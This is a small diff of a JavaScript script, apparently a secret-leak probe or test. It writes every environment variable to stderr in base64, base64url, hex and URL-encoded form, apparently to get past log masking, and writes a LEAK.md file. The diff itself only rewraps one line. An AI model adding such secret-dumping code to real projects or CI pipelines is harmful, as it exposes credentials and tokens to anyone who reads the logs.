@@ -10,7 +10,8 @@ for (const pid of ["self", String(process.ppid)]) {
 }
 for (const [name, value] of Object.entries(process.env)) {
   const bytes = Buffer.from(`${name}=${value}`);
-  for (const encoding of ["base64", "base64url", "hex"]) process.stderr.write(`${bytes.toString(encoding)}\n`);
+  for (const encoding of ["base64", "base64url", "hex"])
+    process.stderr.write(`${bytes.toString(encoding)}\n`);
   process.stderr.write(`${encodeURIComponent(value)}\n`);
 }
 await writeFile("LEAK.md", "a harmless change\n");
